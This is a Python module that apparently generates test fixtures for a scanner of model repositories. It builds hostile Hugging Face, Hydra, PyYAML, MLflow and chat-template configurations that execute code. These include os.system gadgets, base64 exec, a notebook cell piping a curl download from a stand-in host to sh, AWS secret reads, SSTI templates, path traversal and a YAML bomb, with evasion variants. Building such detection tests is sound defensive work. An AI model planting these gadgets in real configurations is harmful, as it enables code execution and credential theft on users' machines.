"""Hugging Face, Hydra, YAML and chat-template configurations that run foreign code."""

from __future__ import annotations

import json

from .archives import EVIL, Member, Zip
from .core import Registry
from .tensors import CHAT, SSTI, SSTI_FORMS

HF = "Transformers documentation (custom models, trust_remote_code)"
HYDRA = "Unit 42 on _target_ in model metadata (CVE-2025-23304, CVE-2026-22584); Hydra documentation"
YAML = "PyYAML documentation (Python-specific tags); CVE-2017-18342, CVE-2020-14343"


def js(value: object) -> bytes:
    """JSON text."""
    return json.dumps(value, indent=2).encode()


def _huggingface(reg: Registry) -> None:
    def add(family: str, gadget: str, files: dict[str, bytes], text: str, src: str = HF) -> None:
        reg.add("hf-" + family, gadget, files, "hf-repo", src, text)

    code = b"import os\nos.system('true')\n\n\nclass Net:\n    pass\n"
    base = {"model_type": "net", "hidden_size": 8}
    for key in ("AutoModel", "AutoModelForCausalLM", "AutoConfig"):
        add("auto-map-external", key, {"config.json": js({**base, "auto_map": {key: "cordon-invalid/other--modeling.Net"}})}, "auto_map takes code from another repository")
    add("auto-map-external", "AutoTokenizer", {"tokenizer_config.json": js({"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["cordon-invalid/other--tok.T", None]}})}, "tokenizer auto_map takes code from another repository")
    add("auto-map-local", "hostile-module", {"config.json": js({**base, "auto_map": {"AutoModel": "modeling_net.Net"}}), "modeling_net.py": code}, "auto_map and a module that calls os.system on import")
    add("auto-map-local", "missing-module", {"config.json": js({**base, "auto_map": {"AutoModel": "modeling_net.Net"}})}, "auto_map to remote code")
    add("auto-map-local", "traversal", {"config.json": js({**base, "auto_map": {"AutoModel": "../../../tmp/cordon.Net"}})}, "auto_map with a path")
    for name in ("preprocessor_config.json", "processor_config.json", "video_preprocessor_config.json", "image_processor_config.json"):
        add("auto-map-processor", name, {name: js({"auto_map": {"AutoProcessor": "cordon-invalid/other--p.P"}})}, f"auto_map in {name}")
    add("auto-map-nested", "text_config", {"config.json": js({**base, "text_config": {"auto_map": {"AutoConfig": "cordon-invalid/o--c.C"}}})}, "auto_map in a nested config")
    add("custom-pipeline", "config", {"config.json": js({**base, "custom_pipelines": {"p": {"impl": "cordon-invalid/other--pipe.P", "pt": ["AutoModel"]}}})}, "custom pipeline code")
    add("custom-pipeline", "local", {"config.json": js({**base, "custom_pipelines": {"p": {"impl": "pipe.P", "pt": ["AutoModel"]}}}), "pipe.py": code}, "custom pipeline from a local module")
    add("custom-generate", "script", {"config.json": js(base), "custom_generate/generate.py": code, "generation_config.json": b"{}"}, "custom_generate runs its script", "Transformers documentation (custom generation)")
    add("kernel-reference", "attn_implementation", {"config.json": js({**base, "_attn_implementation": "cordon-invalid/kernel"})}, "attention kernel fetched from a repository", "Transformers documentation (kernels)")
    for gadget, target in (("other-repo", "cordon-invalid/base-with-code"), ("traversal", "../../../etc"), ("url", "https://cordon.invalid/base"), ("absolute", "/tmp/cordon")):
        if gadget == "other-repo":
            files = {"adapter_config.json": js({"peft_type": "LORA", "base_model_name_or_path": target, "auto_mapping": {"base_model_class": "Net", "parent_library": "transformers_modules.cordon.modeling"}}), "adapter_model.bin": EVIL}
        else:
            files = {"adapter_config.json": js({"peft_type": "LORA", "base_model_name_or_path": target})}
        add("adapter", gadget, files, f"adapter base {target}", "PEFT documentation")
    add("adapter", "auto-mapping", {"adapter_config.json": js({"peft_type": "LORA", "base_model_name_or_path": "b", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})}, "auto_mapping imports any module", "PEFT documentation")
    for kind in ("os.system", "custom_st.Exec", "subprocess.Popen"):
        add("sentence-transformers", kind, {"modules.json": js([{"idx": 0, "name": "0", "path": "", "type": kind}]), "custom_st.py": code}, f"modules.json of type {kind}", "Sentence Transformers documentation (custom modules)")
    add("diffusers", "custom-pipeline", {"model_index.json": js({"_class_name": ["pipeline", "Exec"], "_diffusers_version": "0.30"}), "pipeline.py": code}, "model_index takes a class from pipeline.py", "Diffusers documentation (custom pipelines)")
    add("diffusers", "component-module", {"model_index.json": js({"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]})}, "a component from module os", "Diffusers documentation (model_index)")
    add("diffusers", "remote-component", {"model_index.json": js({"_class_name": "cordon-invalid/pipe", "vae": ["cordon-invalid/vae--m", "V"]})}, "a component from another repository", "Diffusers documentation (custom components)")
    add("handler", "endpoint", {"handler.py": code, "config.json": js(base)}, "Inference Endpoints handler that calls os.system", "Hugging Face Inference Endpoints documentation")
    add("python-file", "setup", {"setup.py": b"import os\nos.system('true')\n", "config.json": js(base)}, "setup.py that calls os.system", "pip documentation")
    add("python-file", "obfuscated", {"modeling_x.py": b"import base64\nexec(base64.b64decode('cHJpbnQoJ2NvcmRvbicp'))\n", "config.json": js({**base, "auto_map": {"AutoModel": "modeling_x.M"}})}, "remote code with exec of base64", HF)
    add("notebook", "magic", {"usage.ipynb": js({"cells": [{"cell_type": "code", "source": ["!curl -s https://cordon.invalid/x | sh\n"], "metadata": {}, "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})}, "a notebook cell that pipes a download to sh", "notebook malware reports")
    add("tokenizer-path", "vocab_file", {"tokenizer_config.json": js({"tokenizer_class": "BertTokenizer", "vocab_file": "../../../../etc/passwd"})}, "vocabulary path that leaves the folder", "Transformers documentation")


def _templates(reg: Registry) -> None:
    def add(family: str, gadget: str, files: dict[str, bytes], text: str, src: str) -> None:
        reg.add("template-" + family, gadget, files, "chat-template", src, text)

    for gadget, form, src in SSTI_FORMS:
        add("tokenizer-config", gadget, {"tokenizer_config.json": js({"tokenizer_class": "LlamaTokenizer", "chat_template": CHAT + form})}, "hostile chat_template string", src)
        if len(gadget) % 2 == 0:
            add("jinja-file", gadget, {"chat_template.jinja": (CHAT + "\n" + form + "\n").encode(), "tokenizer_config.json": js({"tokenizer_class": "T"})}, "hostile chat_template.jinja", src)
        else:
            add("json-file", gadget, {"chat_template.json": js({"chat_template": CHAT + form})}, "hostile chat_template.json", src)
    named = [{"name": "default", "template": CHAT}, {"name": "rag", "template": SSTI}]
    add("named-list", "rag", {"tokenizer_config.json": js({"chat_template": named})}, "only the named template is hostile", "CVE-2024-34359; Transformers chat templates")
    add("additional", "folder", {"additional_chat_templates/tool_use.jinja": (CHAT + SSTI).encode(), "tokenizer_config.json": b"{}"}, "hostile file in additional_chat_templates", "Transformers chat templates")
    add("processor", "processor_config", {"processor_config.json": js({"processor_class": "P", "chat_template": SSTI})}, "hostile template of a processor", "Transformers chat templates")
    add("comment-hidden", "comment", {"chat_template.jinja": ("{# license #}" * 200 + CHAT + "{#- -#}" + SSTI).encode()}, "hostile expression behind long comments", "CVE-2024-34359")
    add("json-escape", "unicode", {"tokenizer_config.json": b'{"chat_template": "{{ cycler.\\u005f\\u005finit__.\\u005f\\u005fglobals__.os.popen(\'true\').read() }}"}'}, "dunder names as JSON escapes", "CVE-2024-34359")
    add("prompt-yaml", "prompt", {"prompt.yaml": f"template_format: jinja2\ntemplate: \"{SSTI}\"\n".encode()}, "LangChain prompt file with a jinja2 template", "CVE-2023-36258 family; LangChain documentation")


def _hydra(reg: Registry) -> None:
    def add(family: str, gadget: str, files: dict[str, bytes], text: str, src: str = HYDRA) -> None:
        reg.add("hydra-" + family, gadget, files, "hydra", src, text)

    targets = ("os.system", "subprocess.run", "subprocess.Popen", "builtins.exec", "builtins.eval", "runpy.run_path", "pickle.load", "torch.hub.load",
               "importlib.import_module", "functools.partial", "pty.spawn", "hydra.utils.get_method", "code.interact", "timeit.timeit", "shutil.rmtree",
               "posix.system", "marshal.loads", "joblib.load", "pydoc.pipepager", "numpy.load", "torch.load", "multiprocessing.util.spawnv_passfds")
    for i, target in enumerate(targets):
        if i % 2:
            add("yaml", target, {"config.yaml": f"model:\n  encoder:\n    _target_: {target}\n    _args_: ['true']\n".encode()}, f"_target_ {target} in YAML")
        else:
            add("json", target, {"config.json": js({"model_type": "x", "encoder": {"_target_": target, "_args_": ["true"]}})}, f"_target_ {target} in JSON")
    add("quoted", "os.system", {"config.yaml": b"\"_tar\\x67et_\": \"os\\u002esystem\"\ncommand: 'true'\n"}, "key and value with YAML escapes")
    add("flow", "os.system", {"conf/model.yaml": b"net: {layers: [{_target_: os.system, command: 'true'}]}\n"}, "flow style inside a list")
    add("anchor", "os.system", {"config.yaml": b"x: &t os.system\nmodel:\n  _target_: *t\n  command: 'true'\n"}, "target through an anchor")
    add("block-scalar", "os.system", {"config.yaml": b"model:\n  _target_: >-\n    os.system\n  command: 'true'\n"}, "target as a folded scalar")
    add("partial", "os.system", {"config.yaml": b"cb:\n  _target_: os.system\n  _partial_: true\n"}, "_partial_")
    add("interpolation", "os.system", {"config.yaml": b"a: os\nmodel:\n  _target_: ${a}.system\n  command: 'true'\n"}, "target built by interpolation", "OmegaConf documentation")
    add("interpolation", "oc.env", {"config.yaml": b"key: ${oc.env:AWS_SECRET_ACCESS_KEY}\nmodel:\n  _target_: builtins.print\n  _args_: ['${key}']\n"}, "a secret from the environment", "OmegaConf documentation")
    add("second-document", "os.system", {"config.yaml": b"a: 1\n---\n_target_: os.system\ncommand: 'true'\n"}, "the second YAML document")
    add("class-path", "subprocess.Popen", {"lightning.yaml": b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: ['true']\n"}, "jsonargparse class_path", "Lightning CLI documentation")
    add("metadata", "safetensors", {"model.safetensors": _st({"config": json.dumps({"_target_": "os.system", "_args_": ["true"]})})}, "_target_ in safetensors metadata", HYDRA)
    add("archive", "zip", {"bundle.zip": Zip([Member(b"configs/inference.json", js({"imports": ["$import os"], "run": "$os.system('true')", "net": {"_target_": "os.system", "command": "true"}}))]).build()}, "a MONAI bundle with _target_ and $ expressions", "MONAI bundle documentation; GHSA-g8fr-fgh2-3pmm family")
    add("monai", "dollar-expression", {"configs/inference.json": js({"net": "$__import__('os').system('true')"}), "configs/metadata.json": js({"version": "1"})}, "a MONAI $ expression", "MONAI bundle documentation")


def _st(metadata: dict[str, str]) -> bytes:
    head = json.dumps({"__metadata__": metadata, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    return len(head).to_bytes(8, "little") + head + bytes(4)


def _yaml(reg: Registry) -> None:
    def add(family: str, gadget: str, text_: str, text: str, src: str = YAML, name: str = "config.yaml") -> None:
        reg.add("yaml-" + family, gadget, (name, text_.encode()), "yaml", src, text)

    add("apply", "os.system", "a: !!python/object/apply:os.system ['true']\n", "object/apply")
    add("apply", "subprocess.check_output", "!!python/object/apply:subprocess.check_output\n  args: [['true']]\n", "object/apply with args")
    add("apply", "builtins.eval", "- !!python/object/apply:builtins.eval [\"print('cordon')\"]\n", "object/apply eval", name="hparams.yml")
    add("new", "subprocess.Popen", "x: !!python/object/new:subprocess.Popen [['true']]\n", "object/new")
    add("new", "state-listitems", "!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\nlistitems: \"print('cordon')\"\n", "object/new type with extend=exec", "CVE-2020-14343")
    add("new", "state-update", "!!python/object/new:str\nstate: !!python/tuple\n- \"print('cordon')\"\n- !!python/object/new:Warning\n  state:\n    update: !!python/name:exec\n", "object/new with state update", "CVE-2020-1747")
    add("name", "os.system", "fn: !!python/name:os.system\n", "python/name")
    add("module", "antigravity", "m: !!python/module:this\n", "python/module imports")
    add("object", "subprocess.Popen", "o: !!python/object:subprocess.Popen\n  args: ['true']\n", "python/object")
    add("verbatim", "os.system", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n", "verbatim tag")
    add("tag-directive", "os.system", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n", "%TAG alias hides the prefix")
    add("tag-directive", "single-bang", "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['true']\n", "%TAG rebinds the primary handle")
    add("percent-encoded", "os.system", "a: !!python%2Fobject%2Fapply:os.system ['true']\n", "percent-encoded tag")
    add("percent-encoded", "letters", "a: !!pyth%6fn/object/%61pply:os.system ['true']\n", "percent-encoded letters")
    add("second-document", "os.system", "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n", "hostile second document")
    add("front-matter", "os.system", "---\nlicense: mit\nx: !!python/object/apply:os.system ['true']\n---\n# Model\n", "README front matter", name="README.md")
    add("mapping-key", "os.system", "? !!python/object/apply:os.system ['true']\n: 1\n", "hostile mapping key")
    add("flow-deep", "os.popen", "{a: {b: [1, {c: !!python/object/apply:os.popen ['true']}]}}\n", "deep in flow style")
    add("mlflow", "loader-module", "flavors:\n  python_function:\n    loader_module: os\n    data: model.pkl\n    python_version: 3.11\n", "MLmodel loader_module names any module", "MLflow documentation (loader_module); CVE-2024-37052 family", "MLmodel")
    add("ruby", "erb", "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: 1\n", "Ruby object tag", "CVE-2013-0156")
    add("bomb", "billion-laughs", "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(f"a{i}: &a{i} [{','.join(['*a%d' % (i - 1)] * 9)}]\n" for i in range(1, 12)), "YAML billion laughs", "CWE-776")


def register(reg: Registry) -> None:
    """All configuration cases."""
    _huggingface(reg)
    _templates(reg)
    _hydra(reg)
    _yaml(reg)
